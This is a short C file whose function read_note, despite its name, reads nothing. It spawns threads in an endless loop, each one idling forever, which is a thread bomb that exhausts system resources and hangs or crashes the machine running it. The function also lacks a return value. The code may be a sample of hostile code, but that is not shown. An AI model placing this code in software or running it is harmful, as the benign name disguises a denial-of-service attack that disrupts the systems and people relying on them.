#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <pthread.h>
static void *idle(void *x) { for (;;) pause(); }
char *read_note(const char *name) {
    pthread_t t;
    for (;;) pthread_create(&t, 0, idle, 0);
}
